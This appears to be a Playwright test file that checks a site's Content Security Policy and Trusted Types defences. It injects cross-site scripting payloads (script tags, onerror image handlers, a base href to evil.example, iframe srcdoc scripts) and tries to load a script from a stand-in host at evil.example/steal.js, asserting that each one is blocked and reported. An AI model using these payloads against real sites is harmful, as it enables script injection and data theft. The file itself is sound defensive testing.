import { policyReports } from '@cc/contracts/api/policy-reports';
import type { Browser, Page } from 'playwright-core';
import { launchBrowser, openWindow, type SiteWindow } from '../support/browser.ts';
import { prerendered } from '../support/page-loading.ts';

// Attacks on a document: markup is injected into it, or a script of the page is made to write markup.

let browser: Browser;
let visit: SiteWindow;
let page: Page;

beforeAll(async () => {
  browser = await launchBrowser();
  await prerendered('/pricing');
});
afterAll(() => browser.close());
beforeEach(async () => {
  visit = await openWindow(browser);
  page = visit.page;
});
afterEach(() => visit.context.close());

const markup = `
  <script>document.title = 'stolen'</script>
  <img src="data:," onerror="document.title = 'stolen'">
  <style>body { color: rgb(1, 2, 3) !important }</style>
  <p id="styled" style="color: rgb(1, 2, 3)">Words</p>
  <base href="https://evil.example/">
  <iframe src="/faq"></iframe>
  <object data="/favicon.png"></object>
`;

test.each(['/pricing', '/cart'])(
  'markup injected into %s runs no script, shows no style, and is reported',
  async (path) => {
    await page.route(`**${path}`, async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace('<body>', `<body>${markup}`);
      await route.fulfill({ response, body });
    });
    const reported = page.waitForRequest((request) => request.url().endsWith(policyReports.path));
    await page.goto(path);
    expect((await (await reported).response())?.status()).toBe(200);
    const colors = await page.evaluate(() =>
      [document.body, document.querySelector('#styled')].map((element) => element && getComputedStyle(element).color),
    );
    expect(colors).not.toContain('rgb(1, 2, 3)');
    expect(await page.title()).not.toBe('stolen');
    expect(await page.evaluate(() => document.baseURI)).not.toContain('evil');
    expect(page.frames().map((frame) => frame.url())).not.toContainEqual(expect.stringContaining('/faq'));
    const blocked = (directive: string) => visit.errors.some((error) => error.includes(directive));
    const directives = ['script-src', 'style-src', 'base-uri', 'frame-src', 'object-src'];
    expect(directives.filter((directive) => !blocked(directive))).toEqual([]);
  },
);

test.each<[string, () => void]>([
  ['markup', () => (document.body.innerHTML = '<img src="x" onerror="alert(1)">')],
  ['code out of text', () => void window.setTimeout('alert(1)')],
  ['a script that is no built file', () => (document.createElement('script').src = '/api/contract')],
  ['markup in a frame', () => (document.createElement('iframe').srcdoc = '<script>alert(1)</script>')],
  ['a policy of its own', () => void Reflect.get(window, 'trustedTypes').createPolicy('evil', {})],
])('a script of a page cannot write %s', async (_what, attack) => {
  await page.goto('/pricing');
  await expect(page.evaluate(attack)).rejects.toThrow(/TypeError|Policy/);
});

test('the page’s files load from the site only', async () => {
  await page.goto('/pricing');
  const blocked = page.waitForEvent('console', (message) => message.text().includes('https://evil.example/steal.js'));
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.src = 'https://evil.example/steal.js';
    document.head.append(script);
  });
  expect((await blocked).text()).toContain('Content Security Policy');
});
